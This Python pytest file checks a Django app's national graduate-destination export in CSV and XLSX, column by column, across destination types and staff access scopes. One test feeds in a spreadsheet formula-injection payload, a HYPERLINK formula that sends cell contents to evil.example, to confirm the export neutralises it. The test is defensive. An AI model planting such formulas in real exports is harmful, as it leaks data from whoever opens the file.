"""The national export, column by column, for every destination type: online signing,
offline and paper agreements, each other destination (11 … 85), and no destination yet."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from agreements.models import Registration
from agreements.registrations import services as registrations
from agreements.registrations.models import OTHER_KINDS
from destreg.reference.models import Code, CodeTable, Region
from reviews import exporting
from reviews.exporting import COLUMN_IDS, COLUMN_SPEC, COLUMNS
from reviews.models import ExportJob
from reviews.tasks import export_now
from students.models import RegistryRecord, StudyForm
from tests import factories as f

# The 26 columns the export had before the national layout's others were appended.
FIRST_26 = [
    "学号", "姓名", "性别", "生源地名称", "生源地代码", "民族", "政治面貌", "城乡生源",
    "学历层次", "专业名称", "专业代码", "毕业日期", "毕业去向类别代码", "毕业去向", "签约日期",
    "单位名称", "统一社会信用代码", "单位性质代码", "单位性质", "单位行业代码", "单位行业",
    "单位所在地代码", "单位所在地", "工作职位类别代码", "工作职位类别", "协议书编号",
]  # fmt: skip
SIGNED_AT = datetime(2026, 5, 20, 2, 0, tzinfo=UTC)  # 10:00 in Beijing: signed on 2026-05-20
USCC = "91110000100000000R"

# What each other destination's registration holds (four: 其他去向), by kind.
OTHER_VALUES = {
    "labour_contract": {"org_name": "合同单位", "org_uscc": USCC, "role": "工程师"},
    "other_employment": {"subtype": "聘用证明", "org_name": "聘用单位"},
    "research_assistant": {"org_name": "科研课题组"},
    "conscript": {"org_name": "征兵办"},
    "national_project": {"subtype": "西部计划", "org_name": "服务单位"},
    "local_project": {"subtype": "地方项目", "org_name": "地方服务单位"},
    "entrepreneur": {"org_name": "自主创业公司", "shop_url": "https://shop.example.cn"},
    "freelance": {"subtype": "自由撰稿"},
    "further_study": {"institution": "示例大学", "program": "计算机科学与技术", "subtype": "硕士"},
    "study_abroad": {
        "institution": "新加坡国立大学",
        "institution_foreign": "National University of Singapore",
        "program": "数据科学",
        "program_foreign": "Data Science",
    },
}


def _name(table: str, code: str) -> str:
    return Code.objects.get(table=table, code=code).name


def _record(world, no: str) -> RegistryRecord:
    return f.make_record(
        world.major_a1,
        student_no=no,
        name=f"毕业{no}",
        candidate_no=f"2611010815{no[1:]:0>4}",
        birth_date=date(2004, 3, 9),
        study_mode=f.code(CodeTable.STUDY_MODE, "3"),
        sponsor_unit="委培示例局",
        study_form=StudyForm.FULL_TIME,
        enrolment_date=date(2022, 9, 1),
        urban_rural=f.code(CodeTable.URBAN_RURAL, "1"),
    )


def _registry_columns(record: RegistryRecord) -> dict[str, str]:
    """The graduate's own columns: the same whatever the destination."""
    region = Region.objects.get(code="110108")
    return {
        "学号": record.student_no,
        "姓名": record.name,
        "性别": "男",
        "生源地名称": region.full_name,
        "生源地代码": "110108",
        "民族": _name(CodeTable.ETHNICITY, "01"),
        "政治面貌": _name(CodeTable.POLITICAL_STATUS, "03"),
        "城乡生源": _name(CodeTable.URBAN_RURAL, "1"),
        "学历层次": record.major.education_level.name,
        "专业名称": record.major.name,
        "专业代码": record.major.code,
        "毕业日期": record.graduation_date.isoformat(),
        "考生号": record.candidate_no,
        "出生日期": "2004-03-09",
        "培养方式代码": "3",
        "培养方式": "委培",
        "委培单位": "委培示例局",
        "学习形式": "全日制",
        "入学年月": "2022-09",
    }


def _empty_destination() -> dict[str, str]:
    return dict.fromkeys(COLUMNS[12:26] + COLUMNS[33:], "")


def _destination(code: str) -> dict[str, str]:
    return {"毕业去向类别代码": code, "毕业去向": _name(CodeTable.DESTINATION, code)}


def _approve(registration: Registration, number: str = "") -> None:
    """As the school's approval leaves it (the services are tested elsewhere)."""
    Registration.objects.filter(pk=registration.pk).update(
        status=Registration.Status.APPROVED, signed_at=SIGNED_AT, number=number or None
    )
    RegistryRecord.objects.filter(pk=registration.student.record_id).update(
        destination=registration.destination
    )


def _register(world, no: str, path: str, values: dict, number: str = "") -> RegistryRecord:
    record = _record(world, no)
    student = f.make_student(record)
    item = registrations.registration_save_draft(student=student, path=path, values=values)
    _approve(item, number)
    return record


def _unit(prefix: str) -> dict:
    return {
        "unit_name": f"{prefix}单位",
        "unit_uscc": USCC,
        "unit_nature": f.code(CodeTable.UNIT_NATURE, "39"),
        "unit_industry": f.code(CodeTable.INDUSTRY, "I"),
        "unit_region": Region.objects.get(code="310115"),
        "unit_address": f"{prefix}路8号",
    }


def _unit_columns(prefix: str, number: str, job: tuple[str, str] = ("", "")) -> dict[str, str]:
    region = Region.objects.get(code="310115")
    return {
        "签约日期": "2026-05-20",
        "单位名称": f"{prefix}单位",
        "统一社会信用代码": USCC,
        "单位性质代码": "39",
        "单位性质": _name(CodeTable.UNIT_NATURE, "39"),
        "单位行业代码": "I",
        "单位行业": _name(CodeTable.INDUSTRY, "I"),
        "单位所在地代码": "310115",
        "单位所在地": region.full_name,
        "工作职位类别代码": job[0],
        "工作职位类别": job[1],
        "协议书编号": number,
        "单位地址": f"{prefix}路8号",
    }


def _other_columns(kind: str) -> dict[str, str]:
    values = OTHER_VALUES[kind]
    columns = {
        "签约日期": "2026-05-20",
        "单位名称": values.get("org_name") or values.get("institution", ""),
        "统一社会信用代码": values.get("org_uscc", ""),
    }
    if kind == "further_study":
        columns |= {"升学院校名称": "示例大学", "升学专业名称": "计算机科学与技术"}
    if kind == "study_abroad":
        columns |= {
            "国家或地区代码": "702",
            "国家或地区": "新加坡",
            "留学院校中文名称": "新加坡国立大学",
            "留学院校外文名称": "National University of Singapore",
            "留学专业中文名称": "数据科学",
            "留学专业外文名称": "Data Science",
        }
    return columns


@pytest.fixture
def expected(world, signed, school_reviewer) -> dict[str, dict[str, str]]:
    """Every destination type once, and a graduate without one: 学号 → the row expected."""
    rows: dict[str, dict[str, str]] = {}
    job = signed.job_category
    online = signed.student.record
    RegistryRecord.objects.filter(pk=online.pk).update(
        candidate_no="26110108150000",
        birth_date=date(2004, 3, 9),
        study_mode=f.code(CodeTable.STUDY_MODE, "3"),
        sponsor_unit="委培示例局",
        study_form=StudyForm.FULL_TIME,
        enrolment_date=date(2022, 9, 1),
        urban_rural=f.code(CodeTable.URBAN_RURAL, "1"),
    )
    online.refresh_from_db()
    employer, region = signed.employer, signed.employer.region
    rows[online.student_no] = (
        _registry_columns(online)
        | _empty_destination()
        | _destination("10")
        | {
            "签约日期": timezone.localdate(signed.signed_at).isoformat(),
            "单位名称": employer.name,
            "统一社会信用代码": employer.uscc,
            "单位性质代码": employer.nature.code,
            "单位性质": employer.nature.name,
            "单位行业代码": employer.industry.code,
            "单位行业": employer.industry.name,
            "单位所在地代码": region.code,
            "单位所在地": region.full_name,
            "工作职位类别代码": job.code,
            "工作职位类别": job.name,
            "协议书编号": signed.number,
            "单位地址": employer.address,
        }
    )
    job_10 = f.code(CodeTable.JOB_CATEGORY, "10")
    record = _register(
        world, "E01", "offline", _unit("线下") | {"job_category": job_10}, number="D2026000001"
    )
    rows["E01"] = (
        _registry_columns(record)
        | _empty_destination()
        | _destination("10")
        | _unit_columns("线下", "D2026000001", (job_10.code, job_10.name))
    )
    paper = _unit("纸质") | {"paper_number": "BJ-0001", "paper_signed_on": date(2026, 5, 1)}
    record = _register(world, "E02", "paper", paper)
    rows["E02"] = (
        _registry_columns(record)
        | _empty_destination()
        | _destination("10")
        | _unit_columns("纸质", "")
    )
    for n, (kind, (code, _label)) in enumerate(OTHER_KINDS.items(), start=3):
        values = {"kind": kind} | OTHER_VALUES[kind]
        if kind == "study_abroad":
            values["country"] = f.code(CodeTable.COUNTRY, "702")
        record = _register(world, f"E{n:02d}", "other", values)
        rows[record.student_no] = (
            _registry_columns(record)
            | _empty_destination()
            | _destination(code)
            | _other_columns(kind)
        )
    record = _record(world, "E99")
    rows["E99"] = _registry_columns(record) | _empty_destination()
    return rows


def _export(user, fmt: str) -> bytes:
    job = f.make_export(user, fmt=fmt)
    export_now(job.pk)
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE
    with job.file.open("rb") as handle:
        return handle.read()


def _by_student_no(table: list[list[str]]) -> dict[str, dict[str, str]]:
    assert table[0] == COLUMNS
    return {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in table[1:]}


def _check(found: dict[str, dict[str, str]], expected: dict[str, dict[str, str]]) -> None:
    assert set(found) == set(expected)
    for no, row in expected.items():
        assert set(row) == set(COLUMNS), no  # the test names every column
        for heading in COLUMNS:
            assert (no, heading, found[no][heading]) == (no, heading, row[heading])


def test_every_destination_type_in_the_csv_export_column_by_column(expected, school_reviewer):
    data = _export(school_reviewer, "csv").decode("utf-8-sig")
    _check(_by_student_no(list(csv.reader(io.StringIO(data)))), expected)


def test_every_destination_type_in_the_xlsx_export_column_by_column(expected, school_reviewer):
    sheet = load_workbook(io.BytesIO(_export(school_reviewer, "xlsx"))).active
    table = [
        ["" if value is None else str(value) for value in row]
        for row in sheet.iter_rows(values_only=True)
    ]
    _check(_by_student_no(table), expected)


def test_the_old_columns_keep_their_place_and_every_column_has_a_stable_id():
    assert COLUMNS[:26] == FIRST_26
    assert len(set(COLUMN_IDS)) == len(COLUMN_IDS) == len(COLUMNS) == len(set(COLUMNS))
    assert COLUMN_IDS[:3] == ["student_no", "name", "gender"]
    assert dict(COLUMN_SPEC)["abroad_institution_foreign"] == "留学院校外文名称"


def test_rows_keyed_by_column_id(expected, world):
    found = {
        row["student_no"]: row
        for row in exporting.row_dicts(RegistryRecord.objects.filter(school=world.school_a))
    }
    assert found["E12"]["abroad_country"] == "新加坡"
    assert found["E11"]["study_institution"] == "示例大学"
    assert found["E01"]["unit_address"] == "线下路8号"
    assert set(found["E99"]) == set(COLUMN_IDS)


def test_a_country_typed_before_the_code_table_is_still_exported(world, school_reviewer):
    record = _register(world, "E50", "other", {"kind": "study_abroad", "institution": "某大学"})
    Registration.objects.filter(student__record=record).update(country_legacy="某国")
    data = _export(school_reviewer, "csv").decode("utf-8-sig")
    row = _by_student_no(list(csv.reader(io.StringIO(data))))["E50"]
    assert (row["国家或地区代码"], row["国家或地区"]) == ("", "某国")


def test_foreign_names_typed_by_a_student_stay_text(world, school_reviewer):
    leak = '=HYPERLINK("http://evil.example/?"&A2,"Uni")'
    _register(
        world,
        "E60",
        "other",
        {
            "kind": "study_abroad",
            "institution": "某大学",
            "institution_foreign": leak,
            "program_foreign": "+1+1",
            "country": f.code(CodeTable.COUNTRY, "826"),
        },
    )
    data = _export(school_reviewer, "csv").decode("utf-8-sig")
    row = _by_student_no(list(csv.reader(io.StringIO(data))))["E60"]
    assert (row["留学院校外文名称"], row["留学专业外文名称"]) == ("'" + leak, "'+1+1")
    sheet = load_workbook(io.BytesIO(_export(school_reviewer, "xlsx"))).active
    column = COLUMNS.index("留学院校外文名称")
    [cell] = [r[column] for r in sheet.iter_rows(min_row=2) if r[0].value == "E60"]
    assert (cell.value, cell.data_type) == (leak, "s")


def test_the_new_columns_reach_only_the_staff_who_may_see_the_graduate(
    expected, other_school_reviewer, other_college_reviewer, college_reviewer
):
    for outsider in (other_school_reviewer, other_college_reviewer):
        data = _export(outsider, "csv").decode("utf-8-sig")
        found = _by_student_no(list(csv.reader(io.StringIO(data))))
        assert not set(found) & set(expected)
        assert "委培示例局" not in data and "National University of Singapore" not in data
    data = _export(college_reviewer, "csv").decode("utf-8-sig")
    assert set(_by_student_no(list(csv.reader(io.StringIO(data))))) == set(expected)
